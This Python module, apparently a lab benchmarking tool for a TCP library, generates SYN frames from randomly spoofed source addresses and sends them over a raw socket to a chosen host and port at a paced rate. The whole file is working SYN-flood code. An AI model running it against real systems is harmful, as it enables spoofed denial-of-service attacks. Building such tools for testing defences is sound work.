"""A SYN flood from made-up sources, at a paced rate, for the benches and only in a lab of their own.

Runs as a process of its own inside a lab's host: ``python -m xsocket_tools.flooder --help``. It says
``ready`` when its frames are built, begins at the first line of its standard input, and ends with it.
"""

import json
import select
import socket
import sys
import time
from collections.abc import Iterator, Sequence
from random import Random
from typing import Final, NamedTuple

import click

from xsocket.fourtuple import FourTuple
from xsocket.segment import SYN, Segment
from xsocket.tcp.options import for_syn
from xsocket.wire.codec import encode_segment
from xsocket.wire.ethernet import IPV4, Ethernet, build_ethernet
from xsocket.wire.sendmmsg import BATCH, BatchSender

SOURCES: Final = 131_072
"""How many different SYNs there are; more than anything remembers."""
TICK_S: Final = 0.001
MOST_BEHIND_S: Final = 0.1
"""What could not be sent for longer than this is given up, or a pause would be followed by a storm."""
_LARGEST: Final = 128
_FIRST_OCTETS: Final = [octet for octet in range(1, 224) if octet not in (10, 127)]
"""Of sources; without the lab's own networks, and what no host takes for one."""


class Sent(NamedTuple):
    """What really went out.

    Attributes:
        frames: How many SYNs the kernel took.
        refused: How many it did not.
        seconds: From the first to the last.
    """

    frames: int
    refused: int
    seconds: float


def syns(count: int, source_mac: bytes, mac: bytes, address: str, port: int, seed: int) -> Iterator[bytes]:
    """Yield *count* frames, each a Linux-like SYN from a source drawn by *seed*, to *address* and *port*."""
    random = Random(seed)
    prefix = build_ethernet(Ethernet(mac, source_mac), IPV4)
    for _ in range(count):
        first = random.choice(_FIRST_OCTETS)
        rest = random.getrandbits(24)
        source = f"{first}.{rest >> 16}.{rest >> 8 & 255}.{rest & 255}"
        name = FourTuple.trusted(source, random.randrange(1024, 65_536), address, port)
        options = for_syn(1460, 7, True, (random.getrandbits(32), 0))
        yield encode_segment(prefix, name, Segment(random.getrandbits(32), 0, SYN, 64_240, options))


def flood(sender: BatchSender, frames: Sequence[bytes], rate: float, until_readable: int) -> Sent:
    """Send *frames* over and over, *rate* of them a second, until the descriptor *until_readable* is."""
    started = time.perf_counter()
    sent = refused = skipped = at = 0
    while not select.select([until_readable], [], [], TICK_S)[0]:
        due = int((time.perf_counter() - started) * rate) - sent - refused - skipped
        skipped += max(0, due - int(MOST_BEHIND_S * rate))
        due = min(due, int(MOST_BEHIND_S * rate))
        while due > 0:
            batch = frames[at : at + min(BATCH, due)]
            taken = sender.send(batch).sent
            sent += taken
            refused += len(batch) - taken
            due -= len(batch)
            at = (at + len(batch)) % len(frames)
    return Sent(sent, refused, time.perf_counter() - started)


@click.command()
@click.argument("interface")
@click.argument("mac")
@click.argument("address")
@click.argument("port", type=int)
@click.option("--rate", type=float, default=20_000.0, show_default=True, help="SYNs a second.")
@click.option("--seed", type=int, default=1, show_default=True)
def main(interface: str, mac: str, address: str, port: int, rate: float, seed: int) -> None:
    """Flood ADDRESS PORT, whose station is MAC, from INTERFACE; print what was really sent, as JSON."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as out:
        out.bind((interface, 0))
        own = out.getsockname()[4]
        frames = list(syns(SOURCES, own, bytes.fromhex(mac.replace(":", "")), address, port, seed))
        click.echo("ready")
        sys.stdout.flush()
        sys.stdin.readline()
        outcome = flood(BatchSender(out.fileno(), _LARGEST), frames, rate, sys.stdin.fileno())
    click.echo(json.dumps(outcome._asdict()))


if __name__ == "__main__":
    main()
